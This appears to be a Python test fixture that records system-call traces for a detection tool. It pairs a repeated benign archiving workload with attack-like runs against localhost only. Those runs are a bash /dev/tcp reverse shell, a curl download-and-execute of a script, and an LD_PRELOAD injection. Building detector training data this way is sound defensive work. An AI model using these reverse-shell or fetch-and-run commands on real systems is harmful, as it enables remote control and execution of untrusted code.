"""Real traces for the learning tests: one ordinary workload recorded again and again, and attack-like
runs against listeners on this machine only (a shell over TCP, download-and-run, LD_PRELOAD)."""
from __future__ import annotations

import http.server
import socket
import subprocess
import sys
import threading
from pathlib import Path

from conftest import ROOT

WORK = """cd {work} && tar cf a.tar src && gzip -c a.tar > a.tgz && sort src/words > sorted &&
wc -l sorted > /dev/null && cp sorted copy && rm -f a.tar a.tgz sorted copy && echo {i} > /dev/null"""


def sensor(*args, timeout=120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "sensor", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=timeout, stdin=subprocess.DEVNULL)


def trace(out: Path, label: str, script: str, shell: str = "/bin/sh") -> Path:
    r = sensor("trace", "-o", str(out), "--label", label, "--", shell, "-c", script)
    assert r.returncode == 0, r.stderr
    return out


class ShellListener:
    """A TCP listener on 127.0.0.1 that, once connected to, sends commands and reads the replies."""

    def __init__(self, commands: bytes):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.got = b""
        self.thread = threading.Thread(target=self._serve, args=(commands,), daemon=True)
        self.thread.start()

    def _serve(self, commands: bytes):
        self.sock.settimeout(60)
        try:
            conn, _ = self.sock.accept()
        except OSError:  # closed: the shell never connected, which the caller reports
            return
        with conn:
            conn.sendall(commands)
            while chunk := conn.recv(4096):
                self.got += chunk

    def close(self):
        self.sock.close()
        self.thread.join(5)


class FileServer:
    """http.server over one folder on 127.0.0.1, in a thread."""

    def __init__(self, folder: Path):
        handler = lambda *a: http.server.SimpleHTTPRequestHandler(*a, directory=str(folder))  # noqa: E731
        http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def workdir(root: Path) -> Path:
    """The ordinary workload's folder: a source tree of one word list."""
    work = root / "work"
    (work / "src").mkdir(parents=True)
    (work / "src" / "words").write_text("\n".join(f"w{(i * 7919) % 1000}" for i in range(2000)) + "\n")
    return work


def record_normal(root: Path, work: Path, normal: int) -> dict[str, Path]:
    """`normal` runs of the ordinary workload in `work`, as trace directories."""
    return {f"normal{i}": trace(root / f"normal{i}", "normal", WORK.format(work=work, i=i)) for i in range(normal)}


def record(root: Path, normal: int) -> dict[str, Path]:
    """`normal` runs of the ordinary workload, then the attack-like ones, as trace directories."""
    work = workdir(root)
    runs = record_normal(root, work, normal)
    listener = ShellListener(b"id\nuname -a\nexit\n")
    try:
        runs["revshell"] = trace(root / "revshell", "attack:reverse_shell",
                                 f"exec 0<>/dev/tcp/127.0.0.1/{listener.port} 1>&0 2>&0; exec /bin/sh", shell="/bin/bash")  # /dev/tcp is bash's
    finally:
        listener.close()
    assert b"uid=" in listener.got  # the shell ran the listener's commands
    www = root / "www"
    www.mkdir()
    (www / "payload.sh").write_text("#!/bin/sh\necho payload ran > /dev/null\n")
    server = FileServer(www)
    try:
        runs["download"] = trace(root / "download", "attack:download_run",
                                 f"curl -sf http://127.0.0.1:{server.port}/payload.sh -o {work}/p.sh && "
                                 f"chmod +x {work}/p.sh && {work}/p.sh && rm {work}/p.sh")
    finally:
        server.close()
    lib = next(p for p in ("/lib/x86_64-linux-gnu/libz.so.1", "/usr/lib/x86_64-linux-gnu/libz.so.1") if Path(p).exists())
    runs["preload"] = trace(root / "preload", "attack:ld_preload",
                            f"export LD_PRELOAD={lib}; " + WORK.format(work=work, i=99))
    return runs
